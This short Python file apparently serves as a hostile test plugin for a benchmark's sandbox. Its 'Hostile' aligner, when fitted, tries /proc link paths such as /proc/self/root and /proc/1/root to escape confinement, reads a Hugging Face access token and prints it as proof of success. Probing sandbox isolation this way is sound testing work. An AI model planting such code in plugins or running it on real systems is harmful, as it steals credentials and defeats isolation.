"""Leave by the links in /proc."""

from cse_bench import Aligner


def attack():
    for way in ("self/root", "self/cwd", "1/root", "self/task/self/root"):
        try:
            return open(f"/proc/{way}/__HOME__/.cache/huggingface/token").read()
        except OSError as error:
            last = error
    raise last


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
